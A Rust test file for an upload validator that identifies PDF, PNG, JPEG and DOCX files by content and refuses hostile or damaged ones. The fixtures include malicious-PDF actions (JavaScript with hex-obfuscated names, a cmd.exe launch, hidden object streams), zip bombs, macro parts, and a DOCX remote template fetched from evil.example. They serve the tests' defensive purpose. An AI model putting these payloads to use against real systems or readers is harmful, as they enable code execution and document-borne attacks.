//! Each kind is taken by its content, and each attack is refused (the desk's list of bad input: "An EXE named .pdf, 25 MiB, a
//! zip-bomb DOCX, a PDF with script, an upload cut off"; OWASP ASVS 5.0, 5.2.2 and 5.2.3).

use super::check;
use crate::samples::*;
use crate::{FileFault, Media};

fn what(mut bytes: &[u8]) -> Result<Media, FileFault> {
    check(&mut bytes)
}

macro_rules! refused {
    ($bytes:expr, $fault:pat) => {
        let found = what(&$bytes);
        assert!(matches!(found, Err($fault)), "{found:?}");
    };
}

#[test]
fn each_kind_is_known_by_its_content() {
    assert_eq!(what(&pdf()).unwrap(), Media::Pdf);
    assert_eq!(what(&pdf_of(200_000)).unwrap(), Media::Pdf);
    assert_eq!(what(&pdf_with(&packed_objects(b"4 0 << /Type /Annot >>"))).unwrap(), Media::Pdf);
    assert_eq!(what(&png()).unwrap(), Media::Png);
    assert_eq!(what(&jpeg()).unwrap(), Media::Jpeg);
    assert_eq!(what(&[jpeg(), b"what a camera adds".to_vec()].concat()).unwrap(), Media::Jpeg);
    assert_eq!(what(&docx()).unwrap(), Media::Docx);
    assert_eq!(what(&zip(&WORD, true)).unwrap(), Media::Docx, "sizes after the parts");
    let link = br#"<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://court.example" TargetMode="External"/></Relationships>"#;
    assert_eq!(what(&docx_with(&[("word/_rels/document.xml.rels", link)])).unwrap(), Media::Docx, "a link to click");
}

#[test]
fn what_is_something_else_is_told_so() {
    refused!(*b"", FileFault::Empty);
    refused!(*b"x", FileFault::Unknown);
    refused!(*b"GIF89a and so on and on", FileFault::Unknown);
    refused!(*b"<html><script>alert(1)</script></html>", FileFault::Unknown);
    refused!(program(), FileFault::Program);
    refused!(*b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", FileFault::Program);
    refused!(*b"#!/bin/sh\necho hello\n", FileFault::Program);
    refused!(*b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0\0\0", FileFault::OldWord);
    refused!(*b"\0\0\0\x18ftypheic\0\0\0\0", FileFault::Heic);
    refused!(zip(&[("a.txt", b"a")], false), FileFault::NotWord);
    refused!(zip(&[], false), FileFault::NotWord);
}

#[test]
fn what_is_cut_short_is_refused_wherever_it_is_cut() {
    for whole in [pdf(), png(), jpeg(), docx()] {
        assert!(what(&whole).is_ok());
        // A PDF may end with a line feed or without.
        for length in 1..whole.len() - 1 {
            assert!(what(&whole[..length]).is_err(), "{} of {} bytes", length, whole.len());
        }
    }
    refused!(pdf()[..pdf().len() - 8], FileFault::CutShort);
    refused!(png()[..40], FileFault::CutShort);
    refused!(jpeg()[..40], FileFault::CutShort);
    refused!(pdf_of(9_000)[..9_000], FileFault::CutShort);
}

#[test]
fn a_picture_that_is_altered_or_too_large_to_be_shown_is_refused() {
    let mut altered = png();
    altered[45] ^= 1;
    refused!(altered, FileFault::Damaged);
    refused!(png_of(20_000, 20_000), FileFault::Huge);
    refused!(png_of(u32::MAX, u32::MAX), FileFault::Huge);
    refused!(png_of(0, 1), FileFault::Damaged);
}

#[test]
fn a_pdf_that_does_something_by_itself_is_refused_however_it_is_written() {
    let action = |words: &str| pdf_with(format!("4 0 obj\n<< /OpenAction << {words} >> >>\nendobj\n").as_bytes());
    refused!(action("/S /JavaScript /JS (app.alert\\(1\\))"), FileFault::Active);
    refused!(action("/S/JavaScript/JS(app.alert)"), FileFault::Active);
    refused!(action("/S /J#61vaScript /JS (app.alert)"), FileFault::Active);
    refused!(action("/S /#4a#61#76#61#53#63#72#69#70#74 /JS (app.alert)"), FileFault::Active);
    refused!(action("/S /Launch /F (cmd.exe)"), FileFault::Active);
    refused!(action("/S /Rendition /JS (app.alert)"), FileFault::Active);
    refused!(pdf_with(&packed_objects(b"4 0 << /S /JavaScript /JS (app.alert) >>")), FileFault::Active);
    // Said to be something else, or hidden in what seem to be the bytes of a picture.
    let untold = String::from_utf8_lossy(&packed_objects(b"")).len();
    assert!(untold > 0);
    let mut unsaid = packed_objects(b"4 0 << /S /JavaScript /JS (app.alert) >>");
    let at = unsaid.windows(12).position(|part| part == b"/Type /ObjSt").unwrap();
    unsaid.splice(at..at + 13, *b"/Type /XYZabc");
    refused!(pdf_with(&unsaid), FileFault::Active);
    refused!(
        pdf_with(
            b"5 0 obj\n<< /Length 60 >>\nstream\n7 0 obj << /S /JavaScript /JS (x) >> endobj\nendstream\nendobj\n"
        ),
        FileFault::Active
    );
}

#[test]
fn a_pdf_that_cannot_be_looked_into_is_refused() {
    refused!(pdf_with(b"trailer << /Encrypt 9 0 R >>\n"), FileFault::Locked);
    refused!(pdf_with(b"8 0 obj << /Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\nstream\nGhQS\nendstream endobj\n"), FileFault::Opaque);
    refused!(
        pdf_with(b"8 0 obj << /Type /ObjStm /N 1 /First 4 /Filter 9 0 R >>\nstream\nGhQS\nendstream endobj\n"),
        FileFault::Opaque
    );
    refused!(
        pdf_with(
            b"8 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nno zlib\nendstream endobj\n"
        ),
        FileFault::Opaque
    );
    refused!(pdf_with(&packed_objects(&vec![b' '; 10 * 1024 * 1024])), FileFault::Bomb);
}

#[test]
fn a_word_document_that_is_a_bomb_or_has_a_program_in_it_is_refused() {
    refused!(docx_bomb(), FileFault::Bomb);
    let many: Vec<(String, &[u8])> = (0..5_000).map(|number| (format!("word/part{number}.xml"), &b""[..])).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, content)| (name.as_str(), *content)).collect();
    refused!(docx_with(&many), FileFault::Bomb);
    for name in [
        "word/vbaProject.bin",
        "WORD\\VBAPROJECT.BIN",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/media/a.exe",
    ] {
        refused!(docx_with(&[(name, b"x")]), FileFault::Macros);
    }
    let kinds = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
    refused!(zip(&[("[Content_Types].xml", kinds), WORD[1], WORD[2]], false), FileFault::Macros);
    let template = br#"<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    refused!(docx_with(&[("word/_rels/settings.xml.rels", template)]), FileFault::Remote);
}

#[test]
fn a_word_document_whose_directory_says_something_else_is_refused() {
    let whole = docx();
    let end = whole.len() - 22;
    let directory = usize::try_from(u32::from_le_bytes(whole[end + 16..end + 20].try_into().unwrap())).unwrap();
    for (at, what_for) in [
        (directory + 42, "an offset"),
        (directory + 46, "a name"),
        (end + 10, "how many"),
        (end + 16, "where it is"),
        (18, "a length"),
        (14, "a checksum"),
    ] {
        let mut altered = whole.clone();
        altered[at] ^= 1;
        assert!(what(&altered).is_err(), "{what_for}");
    }
    refused!([whole.clone(), program()].concat(), FileFault::Damaged);
    refused!(docx_with(&[("word/document.xml", b"twice")]), FileFault::Damaged);
    let mut locked = whole;
    locked[6] |= 1;
    refused!(locked, FileFault::OldWord);
}
